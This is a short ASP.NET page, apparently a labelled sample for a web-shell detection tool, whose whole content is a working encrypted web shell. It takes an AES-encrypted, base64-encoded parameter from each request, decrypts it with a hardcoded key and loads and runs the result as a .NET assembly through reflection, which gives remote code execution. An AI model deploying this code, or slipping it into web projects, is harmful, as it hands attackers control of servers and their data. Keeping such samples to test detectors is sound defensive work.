<%-- triage-expect: triage_aspx_assembly_load --%>
<%@ Page Language="C#" %><%
byte[] k = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");
byte[] b = System.Convert.FromBase64String(Context.Request["d"]);
b = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(b, 0, b.Length);
var asm = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { b });
asm.CreateInstance("X").Equals(Context);
%>
